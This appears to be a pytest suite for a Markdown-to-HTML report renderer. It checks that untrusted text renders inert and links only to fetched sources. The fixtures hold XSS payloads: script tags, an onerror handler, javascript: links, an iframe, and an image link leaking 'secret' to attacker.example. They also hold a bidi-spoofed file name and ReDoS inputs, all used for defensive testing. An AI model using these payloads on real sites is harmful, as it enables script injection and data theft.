"""Report rendering: untrusted Markdown becomes inert HTML, links go only to fetched sources, citations open quotes."""
from __future__ import annotations

import re
import signal
from collections.abc import Iterator
from contextlib import contextmanager
from html.parser import HTMLParser
from urllib.parse import unquote

import pytest
from markdown_it import MarkdownIt

from pipeline.core.schema import Conflict, Finding, Problem, Report, RunResult, Source
from ui.render import (
    _MD,
    Evidence,
    _plain_text,
    _render,
    markdown_html,
    notes_html,
    report_html,
    report_title,
    safe_href,
    sources_html,
    text_fragment_url,
)

OUR_TAGS = {"style", "div", "p", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "blockquote", "table", "thead",
            "tbody", "tr", "th", "td", "hr", "pre", "code", "strong", "em", "span", "a", "br"}
HOSTILE = ('<script>window.__pwned=1</script> <img src=x onerror="window.__pwned=2"> '
           '![x](http://attacker.example/?q=secret) [click](javascript:alert(1)) '
           '<iframe src="http://attacker.example/frame"></iframe> <http://attacker.example/auto> '
           'http://attacker.example/bare [F1](http://attacker.example/cite)')
SOURCE_URL = "https://docs.example.com/pricing?plan=cloud"


VOID = {"hr", "br"}


class Tags(HTMLParser):
    """Every start tag with its attributes, the visible text, and whether every tag is closed in order (and no link
    is inside another)."""

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self.open: list[str] = []
        self.misnested: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag == "a" and "a" in self.open:
            self.misnested.append("<a> inside <a>")
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.misnested.append(f"</{tag}>")

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def hrefs(self) -> list[str]:
        return [a["href"] or "" for t, a in self.tags if t == "a"]


def run(markdown: str, quote: str = "Qdrant Cloud pricing starts at 25 dollars per month.") -> RunResult:
    src = Source(id="S1", url=SOURCE_URL, final_url=SOURCE_URL, title="Qdrant <b>pricing</b>", published="2025-01-15",
                 fetched_at="2025-02-01T10:00:00+00:00", sha256="0" * 64, chars=500)
    other = Source(id="S2", url="http://127.0.0.1:9/x", final_url="javascript:alert(1)", title=None, published=None,
                   fetched_at="2025-02-01T10:00:00+00:00", sha256="1" * 64, chars=10)
    findings = [Finding(id="F1", sub_question="Q1", source="S1", claim="c", quote=quote, start=0, end=len(quote),
                        support="supported", confidence="high"),
                Finding(id="F2", sub_question="Q1", source="S2", claim="c2", quote="A quote from a page " + HOSTILE,
                        start=0, end=5)]
    return RunResult(run_id="r1", question="q?", mode="fixed", status="partial", sources=[src, other],
                     findings=findings, report=Report(markdown=markdown, gaps=["What is <b>enterprise</b> pricing?"],
                                                      conflicts=[Conflict(description="Disagree <img src=x>",
                                                                          findings=["F1", "F2"])]),
                     problems=[Problem(kind="uncited", message="no cite <script>x</script>",
                                       sentence="![y](http://attacker.example/p)")])


def assert_inert(html: str) -> Tags:
    parsed = Tags(html)
    assert parsed.misnested == [] and parsed.open == [], (parsed.misnested, parsed.open)
    for tag, attrs in parsed.tags:
        assert tag in OUR_TAGS, f"unexpected tag <{tag}>"
        assert not any(k.startswith("on") or k in ("src", "srcset", "style", "formaction") for k in attrs), attrs
    for href in parsed.hrefs():
        assert href.startswith(SOURCE_URL), f"link to something that was not fetched: {href}"
    assert "attacker.example" not in " ".join(v or "" for _, a in parsed.tags for v in a.values())
    return parsed


def test_hostile_report_and_quote_render_as_text_with_links_only_to_fetched_sources() -> None:
    # S2 was fetched at http://127.0.0.1:9/x but its final address is javascript:, so citing it links nowhere
    rr = run(f"# Title <script>alert(1)</script>\n\nIntro {HOSTILE} [F1] [s2](http://127.0.0.1:9/x).\n\n"
             f"- item {HOSTILE} [F2] http://127.0.0.1:9/x\n")
    html = report_html(rr) + notes_html(rr)
    parsed = assert_inert(html)
    text = "".join(parsed.text)
    for shown in ("<script>window.__pwned=1</script>", '<img src=x onerror="window.__pwned=2">',
                  "![x](http://attacker.example/?q=secret)", "[click](javascript:alert(1))",
                  '<iframe src="http://attacker.example/frame"></iframe>', "<http://attacker.example/auto>",
                  "Qdrant <b>pricing</b>", "What is <b>enterprise</b> pricing?", "no cite <script>x</script>",
                  "[s2](http://127.0.0.1:9/x)"):
        assert shown in text
    assert parsed.hrefs(), "the fetched source should still be linked"


def test_citation_card_holds_quote_title_date_and_a_text_fragment_link() -> None:
    ev = Evidence.of(run("x"))
    html = markdown_html("Qdrant costs 25 dollars [F1].", ev)
    parsed = assert_inert(html)
    cite = next(a for t, a in parsed.tags if t == "span" and a.get("data-cite") == "F1")
    assert cite.get("tabindex") == "0"
    text = "".join(parsed.text)
    assert "“Qdrant Cloud pricing starts at 25 dollars per month.”" in text
    assert "Qdrant <b>pricing</b>" in text and "2025-01-15" in text and "support supported" in text
    (href,) = parsed.hrefs()
    assert href.startswith(SOURCE_URL + "#:~:text=")
    assert unquote(href.split(":~:text=")[1]) == "Qdrant Cloud pricing starts at 25 dollars per month."
    link = next(a for t, a in parsed.tags if t == "a")
    assert link["target"] == "_blank" and "noopener" in (link["rel"] or "") and "noreferrer" in (link["rel"] or "")


def test_a_source_whose_address_is_not_http_gets_no_link() -> None:
    html = markdown_html("See [F2].", Evidence.of(run("x")))
    parsed = assert_inert(html)
    assert parsed.hrefs() == [] and "not a web page" in "".join(parsed.text)


def test_groups_unknown_ids_gaps_and_calculations() -> None:
    rr = run("x")
    html = markdown_html("Both [F1, F2]; not known [F9]; gap [G1].", Evidence.of(rr))
    parsed = Tags(html)
    cites = [(a.get("data-cite"), a.get("class")) for t, a in parsed.tags if t == "span" and a.get("data-cite")]
    assert cites == [("F1", "vb-cite vb-finding"), ("F2", "vb-cite vb-finding"), ("F9", "vb-cite vb-unknown"),
                     ("G1", "vb-cite vb-gap")]
    text = "".join(parsed.text)
    assert "F9 does not match anything" in text and "What is <b>enterprise</b> pricing?" in text


def test_markdown_links_only_to_fetched_sources_become_links() -> None:
    ev = Evidence.of(run("x"))
    html = markdown_html(f"[the docs]({SOURCE_URL}) and [elsewhere](https://other.example/) and "
                         f"{SOURCE_URL.replace('https', 'HTTPS')} bare", ev)
    parsed = assert_inert(html)
    assert parsed.hrefs() == [SOURCE_URL, SOURCE_URL]
    assert "[elsewhere](https://other.example/)" in "".join(parsed.text)


def test_links_images_and_references_not_fetched_show_as_written() -> None:
    ev = Evidence.of(run("x"))
    md = (f'![shot]({SOURCE_URL}) [x](https://other.example/ "t") [**b** c](https://other.example/) '
          "<https://other.example/a> [r] [F1]\n\n[r]: https://docs.example.com/pricing?plan=cloud\n"
          "[F1]: http://attacker.example/")
    html = markdown_html(md, ev, cards=False)
    parsed = assert_inert(html)
    text = "".join(parsed.text)
    for shown in (f"![shot]({SOURCE_URL})", '[x](https://other.example/ "t")', "<https://other.example/a>",
                  "[F1]: http://attacker.example/"):
        assert shown in text
    assert "[<strong>b</strong> c](https://other.example/)" in html
    assert parsed.hrefs() == [SOURCE_URL]  # only the bare address of the definition: a definition makes no link
    assert [a.get("class") for t, a in parsed.tags if t == "span"] == ["vb-cite-plain"] * 2


def test_a_fetched_link_goes_to_the_sources_final_address_and_closes_where_its_text_ends() -> None:
    ev = Evidence.of(run("x"))
    html = markdown_html('[*the* docs](https://DOCS.example.com/pricing/?utm_source=x&plan=cloud#"><b>) after '
                         f"and [](https://docs.example.com/pricing?plan=cloud) end [{SOURCE_URL}]({SOURCE_URL})", ev)
    parsed = assert_inert(html)  # the address as the text of a link is not a second link inside it
    assert parsed.hrefs() == [SOURCE_URL] * 3
    assert html.startswith("<p><a ") and "><em>the</em> docs</a> after and <a " in html
    assert f">{SOURCE_URL}</a> end <a " in html  # an empty link text shows the address


def test_attributes_written_in_the_markdown_never_reach_the_html() -> None:
    md = "3. x\n4. y\n\n| a | b |\n|:-|-:|\n| 1 | 2 |\n\n```js onerror=alert(1)\ncode\n```\n\n    indented <b>"
    flat = markdown_html(md, Evidence()).replace(">\n", ">").replace("\n<", "<")
    assert_inert(flat)
    assert flat == ('<ol><li>x</li><li>y</li></ol><table class="vb-table"><thead><tr><th>a</th><th>b</th></tr>'
                    "</thead><tbody><tr><td>1</td><td>2</td></tr></tbody></table><pre><code>code</code></pre>"
                    "<pre><code>indented &lt;b&gt;</code></pre>")


def test_citations_only_where_written_as_citations() -> None:
    html = markdown_html(f"`[F1]` [f1] \\[F2\\] [F1](https://other.example/) [see [F1]]({SOURCE_URL}) [G1; C1]",
                         Evidence.of(run("x")), cards=False)
    assert_inert(html)
    assert "<code>[F1]</code> [f1] [F2] [F1](https://other.example/) [see " in html
    assert re.findall(r'"vb-cite-plain">\[(\w+)\]', html) == ["F1", "G1", "C1"]  # a link text cannot hold one


def test_entities_breaks_and_deep_nesting_stay_inert() -> None:
    html = markdown_html("&lt;b&gt; &#x202e;x &amp; &#0;  \nnext\n\n" + "> " * 40 + "deep\n\n" + "- " * 40 + "deep",
                         Evidence())
    parsed = assert_inert(html)
    assert html.startswith("<p>&lt;b&gt; x &amp; \ufffd<br>\nnext</p>") and "\u202e" not in html
    assert "".join(parsed.text).count("deep") <= 2  # past 20 levels the parser drops the rest, it never recurses on


def test_tokens_the_parser_is_not_configured_to_make_still_render_inert() -> None:
    # Raw HTML and strikethrough are off in our parser; were a rule turned on, its tags would still not come out.
    tokens = MarkdownIt("commonmark").enable("strikethrough").parse("<script>x</script>\n\n~~s~~ <b onclick=y>i</b>")
    html = _render(tokens, Evidence(), cards=True)
    assert_inert(html)
    assert "&lt;script&gt;x&lt;/script&gt;" in html and "s &lt;b onclick=y&gt;i&lt;/b&gt;" in html


def test_markdown_subset_structure_and_escapes() -> None:
    md = ("## Heading\n\nSome **bold**, *em*, _em too_, `co<de>` and \\*not em\\* and snake_case_name.\n\n"
          "- one\n- two\n  continued\n  - nested\n1. first\n\n> quoted <b>\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n---\n"
          "```\n<script>raw</script>\n```\n")
    html = markdown_html(md, Evidence())
    assert_inert(html)
    assert "<h3>Heading</h3>" in html
    assert "<strong>bold</strong>" in html and "<em>em</em>" in html and "<em>em too</em>" in html
    assert "<code>co&lt;de&gt;</code>" in html and "*not em*" in html and "snake_case_name" in html
    flat = html.replace(">\n", ">").replace("\n<", "<")  # the line breaks between tags
    assert "<ul><li>one</li><li>two\ncontinued<ul><li>nested</li></ul></li></ul><ol><li>first</li></ol>" in flat
    assert "<blockquote><p>quoted &lt;b&gt;</p></blockquote>" in flat
    assert "<th>a</th>" in html and "<td>2</td>" in html and "<hr>" in html
    assert "<pre><code>&lt;script&gt;raw&lt;/script&gt;</code></pre>" in html
    assert markdown_html("## C# and F# ##\n\n``a ` b`` and `c`", Evidence()) == \
        "<h3>C# and F#</h3>\n<p><code>a ` b</code> and <code>c</code></p>"
    assert markdown_html("_snake_case words_ and *a **b** c*", Evidence()) == \
        "<p><em>snake_case words</em> and <em>a <strong>b</strong> c</em></p>"


@contextmanager
def deadline(seconds: float) -> Iterator[None]:
    """Fails the test when the block runs longer than `seconds` (SIGALRM interrupts a regex that is still running)."""
    def expired(signum: int, frame: object) -> None:
        raise AssertionError(f"took more than {seconds} s")

    previous = signal.signal(signal.SIGALRM, expired)
    signal.setitimer(signal.ITIMER_REAL, seconds)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)


@pytest.mark.parametrize("start,unit", [("", "**a "), ("", "__a "), ("", "*a "), ("", "_a "), ("", "[a"),
                                        ("", "[F1,"), ("", "a **b\n"), ("x", "`"), ("# a", " ")])
def test_adversarial_markdown_renders_in_linear_time_and_stays_escaped(start: str, unit: str) -> None:
    # 48 KB of unclosed openers: a pattern that rescans the rest of the text per opener needs seconds to hours
    md = start + unit * (48_000 // len(unit)) + "b <i>"
    with deadline(3.0):  # linear rendering takes under 1 s here (0.9 s for "[a"); quadratic takes 5 s or more
        html = markdown_html(md, Evidence())
        assert report_title(run(md))
    assert_inert(html)
    assert "&lt;i&gt;" in html and "<i>" not in html


def test_bidi_controls_are_removed_from_untrusted_text() -> None:
    rlo = "\u202egnp.exe\u202c \u2066x\u2069 \u200fy\u200e \u061c"
    rr = run(f"# Title {rlo}\n\nBody {rlo} `{rlo}` [F1].", quote=f"Quote {rlo}")
    html = report_html(rr) + notes_html(rr)
    assert "<h2>Title gnp.exe x y </h2>" in html and "“Quote gnp.exe x y ”" in html
    assert "<code>gnp.exe x y </code>" in html
    for c in "\u202e\u202c\u2066\u2069\u200f\u200e\u061c":
        assert c not in html


def test_sources_section_comes_from_the_data_not_the_models_text() -> None:
    rr = run("Body [F1].\n\n## Sources\n\n- [F1] [evil](http://attacker.example/) <img src=x>\n")
    html = sources_html(rr)
    parsed = assert_inert(html)
    assert "attacker.example" not in html
    assert "“Qdrant Cloud pricing starts at 25 dollars per month.”" in "".join(parsed.text)
    assert [a.get("id") for t, a in parsed.tags if t == "li"] == ["vb-src-F1"]  # only cited findings


def test_report_title_and_body_without_it() -> None:
    rr = run("# Qdrant \\[pricing\\] <x>\n\n_label_\n\nBody [F1].")
    assert report_title(rr) == "Qdrant [pricing] <x>"
    assert report_html(rr).split('<div class="vb-report">')[1].startswith("<h2>Qdrant [pricing] &lt;x&gt;</h2>\n<p>")
    assert report_html(rr, title=False).split('<div class="vb-report">')[1].startswith("<p><em>label</em></p>")
    assert report_title(run("No heading [F1].")) == "q?"
    assert report_title(run("\n  \nTitle *in* `code` ![i](http://e.example/i.png)\n[l](http://e.example/) [F1]\n===\n\n"
                            "# Second")) == "Title in code ![i](http://e.example/i.png) [l](http://e.example/) [F1]"


@pytest.mark.parametrize("url,ok", [
    ("https://example.com/a?b=1#c", True), ("http://127.0.0.1:8080/x", True), ("javascript:alert(1)", False),
    ("data:text/html,<script>", False), ("https://user:pw@example.com/", False), ("https://exa mple.com/", False),
    ("//example.com/x", False), ("https://example.com/\nx", False), ("", False), ("vbscript:x", False)])
def test_safe_href(url: str, ok: bool) -> None:
    assert (safe_href(url) is not None) is ok


def test_text_fragment_encodes_its_syntax_and_shortens_long_quotes() -> None:
    url = text_fragment_url("https://e.com/p#sec", "Prices rose 5-10%, then fell & stayed")
    assert url.startswith("https://e.com/p#sec:~:text=")
    directive = url.split(":~:text=")[1]
    assert "-" not in directive and "," not in directive and "&" not in directive and " " not in directive
    assert unquote(directive) == "Prices rose 5-10%, then fell & stayed"
    long = " ".join(f"w{i}" for i in range(30))
    start, end = text_fragment_url("https://e.com/", f"“{long}.”").split(":~:text=")[1].split(",")
    assert unquote(start) == "w0 w1 w2 w3 w4" and unquote(end) == "w25 w26 w27 w28 w29."
    assert text_fragment_url("https://e.com/#:~:text=old", "new words").endswith("#:~:text=new%20words")


TITLE_CASES = ["\n \n# Title *x*\nbody", "Title\n===\n\nBody", "Two\nlines\n---\n", "> # quoted\n\n# x",
               "```\n# a\n\n# b\n```", "    # code\n\n# x", "# A\r\n\r\nB", "- a\n\n  # b", "",
               "Body first.\n\n# Later heading"]


@pytest.mark.parametrize("md", TITLE_CASES)
def test_the_title_read_from_the_first_block_is_the_whole_report_parse(md: str) -> None:
    tokens = _MD.parse(md)  # report_title parses only up to the first blank line
    first = _plain_text(tokens[1].children or []) if tokens and tokens[0].type == "heading_open" else ""
    assert report_title(run(md)) == (" ".join(first.split()) or run(md).question)
